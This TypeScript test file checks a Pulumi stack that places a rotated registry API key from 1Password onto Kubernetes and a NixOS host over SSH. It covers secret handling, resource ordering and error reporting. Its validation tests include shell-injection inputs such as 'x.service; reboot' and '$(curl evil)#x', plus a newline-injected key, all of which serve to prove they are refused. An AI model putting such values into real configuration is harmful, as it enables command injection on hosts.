// Both committed stacks, run for real (index.ts) under Pulumi's mocks.
import { test } from "node:test";
import assert from "node:assert/strict";
import * as pulumi from "@pulumi/pulumi";
import { keyDigest } from "../../lib/registryKey";
import { byName, FAKE_KEY, isSecretValue, plainParts, type Registered, revealed, runStack, type StackRun } from "../support/mockStack";

const NEW_KEY = "zak_TESTONLYrotatedkey1111";

async function ok(stack: string, opts: Parameters<typeof runStack>[1] = {}): Promise<StackRun> {
  const run = await runStack(stack, opts);
  assert.equal(run.error, undefined, run.error?.stack);
  return run;
}

/** Proves the key occurs only inside secret values, and returns where it does occur. */
function assertKeyOnlyInSecrets(run: StackRun, key: string): string[] {
  const carriers: string[] = [];
  for (const r of run.resources) {
    assert.ok(!JSON.stringify(plainParts(r.inputs)).includes(key), `${r.name} has the key outside a secret`);
    if (JSON.stringify(revealed(r.inputs)).includes(key)) carriers.push(r.name);
  }
  assert.ok(!JSON.stringify(run.outputs).includes(key), "a stack output holds the key");
  return carriers;
}

const short = (names: string[]) =>
  names.map((n) => n.replace(/^zot-ci-?/, "").replace(/^(deployment-patch)-[0-9a-f]{8}$/, "$1") || "component");
/** The DeploymentPatch, whose name ends in its shape hash. */
const patchOf = (run: StackRun) => run.resources.find((r) => r.name.startsWith("zot-ci-deployment-patch-"))!;

test("indri: the component, its providers, the check, the ExternalSecret and the patch", async () => {
  const run = await ok("indri");
  assert.deepEqual(short(run.resources.map((r) => r.name)).sort(), [
    "1password",
    "component",
    "deployment",
    "deployment-patch",
    "external-secret",
    "k8s",
    "registry-check",
    "rollout",
    "secret-synced",
  ]);
  const component = byName(run, "zot-ci");
  assert.equal(component.type, "runner-secrets:index:RunnerRegistryAuth");
  assert.deepEqual(run.outputs, {
    targetKind: "kubernetes",
    location: "forgejo-runner/zot-ci-apikey",
    keyDigest: keyDigest(FAKE_KEY),
    onePasswordItemId: "item-uuid-1",
  });
});

test("indri: an explicit provider pinned to the configured context, used by every Kubernetes resource", async () => {
  const run = await ok("indri");
  const provider = byName(run, "-k8s");
  assert.equal(provider.type, "pulumi:providers:kubernetes");
  // The mock kubeconfig's current-context is "other-cluster": it must not matter.
  assert.equal(provider.inputs.context, "minikube");
  for (const r of run.resources.filter((x) => x.type.startsWith("kubernetes:"))) {
    assert.match(r.provider ?? "", /::zot-ci-k8s::/, `${r.name} does not use the pinned provider`);
  }
});

test("indri: a context missing from the kubeconfig stops `up` before anything is registered", async () => {
  const run = await runStack("indri", { config: { "runner-secrets:kubernetes": { context: "minkube" } } });
  assert.match(run.error?.message ?? "", /kube context "minkube" not found in .*contexts there: minikube, other-cluster/);
  assert.ok(pulumi.RunError.isInstance(run.error), "a config error must be a RunError (no stack trace on up)");
  assert.equal(run.resources.length, 0);
  const none = await runStack("indri", { kubeconfig: null });
  assert.match(none.error?.message ?? "", /kube context "minikube" not found .*no such file/);
  // A preview (e.g. on a pull request without cluster access) still shows the plan.
  const preview = await runStack("indri", { kubeconfig: null, preview: true });
  assert.equal(preview.error, undefined);
  assert.ok(preview.resources.some((r) => r.name.endsWith("external-secret")));
});

test("ringtail: three remote commands with a pinned host key, run in order", async () => {
  const run = await ok("ringtail");
  assert.deepEqual(short(run.resources.map((r) => r.name)), [
    "component",
    "1password",
    "registry-check",
    "env-file",
    "nixos-rebuild",
    "restart",
  ]);
  const [writer, rebuild, restart] = ["env-file", "nixos-rebuild", "restart"].map((n) => byName(run, n));
  for (const r of [writer, rebuild, restart]) {
    assert.equal(r.type, "command:remote:Command");
    const conn = revealed(r.inputs.connection) as Record<string, unknown>;
    assert.equal(conn.host, "ringtail");
    assert.equal(conn.user, "eblume");
    assert.match(String(conn.hostKey), /^ssh-ed25519 /);
    assert.equal(r.inputs.addPreviousOutputInEnv, false, "earlier output must not be sent as SSH environment");
    assert.equal(r.inputs.environment, undefined);
  }
  assert.ok(writer.dependsOn.includes("zot-ci-registry-check"));
  assert.ok(rebuild.dependsOn.includes("zot-ci-env-file"), "rebuild after the file");
  assert.ok(restart.dependsOn.includes("zot-ci-nixos-rebuild"), "restart after the rebuild");
  assert.match(String(rebuild.inputs.create), /sudo -n "nixos-rebuild" "switch" "--flake" "\/etc\/blumeops\/nixos\/ringtail#ringtail"/);
  assert.match(String(restart.inputs.create), /sudo -n "systemctl" "restart" "gitea-runner-nix_container_builder.service"/);
  assert.equal(writer.inputs.update, writer.inputs.create, "a new key is written by an in-place update");
  assert.deepEqual(run.outputs.location, "ringtail:/etc/forgejo-runner/zot-api-key.env");
});

test("indri: the Deployment rolls only after the Secret holds the key, and all wait for the registry check", async () => {
  const run = await ok("indri");
  assert.ok(byName(run, "external-secret").dependsOn.includes("zot-ci-registry-check"));
  assert.ok(byName(run, "secret-synced").dependsOn.includes("zot-ci-external-secret"));
  assert.ok(patchOf(run).dependsOn.includes("zot-ci-secret-synced"));
  assert.ok(patchOf(run).dependsOn.includes("zot-ci-registry-check"));
  assert.ok(byName(run, "rollout").dependsOn.includes(patchOf(run).name));
});

for (const stack of ["indri", "ringtail"]) {
  test(`${stack}: the key is a secret everywhere it flows and in no plain input or output`, async () => {
    const run = await ok(stack, { key: FAKE_KEY });
    const carriers = assertKeyOnlyInSecrets(run, FAKE_KEY);
    // It does reach the places that need it: the checker's stdin, and on ringtail the writer's stdin.
    assert.deepEqual(carriers, stack === "indri" ? ["zot-ci-registry-check"] : ["zot-ci-registry-check", "zot-ci-env-file"]);
    for (const name of carriers) {
      assert.ok(isSecretValue(byName(run, name).inputs.stdin), `${name}.stdin is not secret`);
    }
    for (const r of run.resources) {
      for (const field of ["create", "update", "delete"]) assert.ok(!String(r.inputs[field] ?? "").includes(FAKE_KEY));
    }
  });

  test(`${stack}: the same key twice registers identical inputs`, async () => {
    const a = await ok(stack);
    const b = await ok(stack);
    assert.deepEqual(
      b.resources.map((r) => [r.name, revealed(r.inputs)]),
      a.resources.map((r) => [r.name, revealed(r.inputs)]),
    );
  });
}

/** Names of resources whose inputs differ, and for each the top-level input keys that do. */
function changes(a: StackRun, b: StackRun): Record<string, string[]> {
  const out: Record<string, string[]> = {};
  for (const r of b.resources) {
    const old = a.resources.find((x) => x.name === r.name) as Registered;
    const keys = new Set([...Object.keys(old.inputs), ...Object.keys(r.inputs)]);
    const diff = [...keys].filter((k) => JSON.stringify(revealed(old.inputs[k])) !== JSON.stringify(revealed(r.inputs[k])));
    if (diff.length) out[r.name] = diff.sort();
  }
  return out;
}

test("indri rotation: only the approved digest, the sync wait, the pod-template annotation and the check change", async () => {
  const a = await ok("indri", { key: FAKE_KEY });
  const b = await ok("indri", { key: NEW_KEY });
  assert.deepEqual(changes(a, b), {
    "zot-ci-registry-check": ["stdin", "triggers"],
    "zot-ci-external-secret": ["spec"],
    "zot-ci-secret-synced": ["metadata"],
    "zot-ci-rollout": ["spec"],
  });
  const es = (r: StackRun) =>
    byName(r, "external-secret").inputs as { metadata: unknown; spec: { target: { template: { data: Record<string, string> } } } };
  assert.deepEqual(es(a).metadata, es(b).metadata);
  for (const t of Object.values(es(b).spec.target.template.data)) assert.ok(t.includes(`"${keyDigest(NEW_KEY)}"`), t);
  const tpl = (r: StackRun) => (byName(r, "rollout").inputs as { spec: { template: { metadata: unknown; spec: unknown } } }).spec.template;
  assert.deepEqual(tpl(b), { metadata: { annotations: { "runner-secrets/key-digest": keyDigest(NEW_KEY) } } });
});

test("ringtail rotation: the writer updates in place, the restart re-runs, the rebuild does not", async () => {
  const a = await ok("ringtail", { key: FAKE_KEY });
  const b = await ok("ringtail", { key: NEW_KEY });
  assert.deepEqual(changes(a, b), {
    "zot-ci-registry-check": ["stdin", "triggers"],
    "zot-ci-env-file": ["stdin"], // no trigger change: an update, never a replace that could delete the file
    "zot-ci-restart": ["triggers"], // a replace: its create restarts the unit
  });
  assert.ok(JSON.stringify(revealed(byName(b, "env-file").inputs.stdin)).includes(NEW_KEY));
});

test("the checker can be switched off explicitly; consumers then depend on nothing else", async () => {
  const run = await ok("ringtail", { config: { "runner-secrets:registryCheck": { enabled: false } } });
  assert.ok(!run.resources.some((r) => r.name.endsWith("registry-check")));
  assert.deepEqual(byName(run, "env-file").dependsOn, []);
});

test("credentials from secret config reach the providers as secrets", async () => {
  const run = await ok("ringtail", {
    config: { "runner-secrets:sshPrivateKey": "PRIVATE-KEY-TEXT", "runner-secrets:onePasswordToken": "ops_TOKEN" },
    secretKeys: ["runner-secrets:sshPrivateKey", "runner-secrets:onePasswordToken"],
  });
  assertKeyOnlyInSecrets(run, "PRIVATE-KEY-TEXT");
  assertKeyOnlyInSecrets(run, "ops_TOKEN");
  assert.equal((revealed(byName(run, "env-file").inputs.connection) as { privateKey: string }).privateKey, "PRIVATE-KEY-TEXT");
  assert.equal(revealed(byName(run, "1password").inputs.serviceAccountToken), "ops_TOKEN");
  // Read through the explicit provider, by vault and title.
  const invoke = run.invokes.find((i) => i.token === "onepassword:index/getItem:getItem");
  assert.match(invoke?.provider ?? "", /::zot-ci-1password::/);
  assert.deepEqual(invoke?.inputs, { vault: "blumeops", title: "zot-ci-apikey" });
});

test("bad config is refused with its key named, and nothing is registered", async () => {
  for (const [config, key] of [
    [{ "runner-secrets:nixos": { unit: "x.service; reboot" } }, "runner-secrets:nixos.unit"],
    [{ "runner-secrets:nixos": { flake: "$(curl evil)#x" } }, "runner-secrets:nixos.flake"],
    [{ "runner-secrets:nixos": { hostKey: "not a key" } }, "runner-secrets:nixos.hostKey"],
    [{ "runner-secrets:envVar": "ZOT KEY" }, "runner-secrets:envVar"],
    [{ "runner-secrets:kubernetes": { context: "minikube" } }, "runner-secrets:kubernetes"],
    [{ "runner-secrets:sshPrivateKey": "plaintext!" }, "runner-secrets:sshPrivateKey"],
    [{ "runner-secrets:target": "both" }, "runner-secrets:target"],
    [{ "runner-secrets:nixos": { sudo: true } }, "runner-secrets:nixos.sudo"],
  ] as const) {
    const run = await runStack("ringtail", { config });
    assert.match(run.error?.message ?? "", new RegExp(`- ${key.replace(/\./g, "\\.")}: `), JSON.stringify(config));
    assert.equal(run.resources.length, 0, `resources registered despite ${JSON.stringify(config)}`);
  }
});

test("1Password problems are reported with vault, item and field, and no runner is touched", async () => {
  for (const [opts, message] of [
    [
      { itemError: "item not found" },
      /could not read item "zot-ci-apikey" in vault "blumeops" \(wanted field "credential" of item "zot-ci-apikey" in vault "blumeops"\)/,
    ],
    [{ item: { credential: "" } }, /field "credential" of item "zot-ci-apikey" in vault "blumeops" is empty/],
    [
      { config: { "runner-secrets:onePassword": { field: "api key" } } },
      /there is no field "api key" of item "zot-ci-apikey" in vault "blumeops"/,
    ],
    [{ key: "zak_x\nEVIL=1" }, /cannot be used: the key contains a control character/],
  ] as const) {
    const run = await runStack("ringtail", opts);
    assert.match(run.error?.message ?? "", message);
    // Reported against the component (its URN in the engine's error), without a stack trace.
    assert.ok(pulumi.ResourceError.isInstance(run.error), `not a ResourceError: ${run.error}`);
    assert.ok(
      !run.resources.some((r) => r.type === "command:remote:Command" || r.type === "command:local:Command"),
      "a command was registered",
    );
  }
});
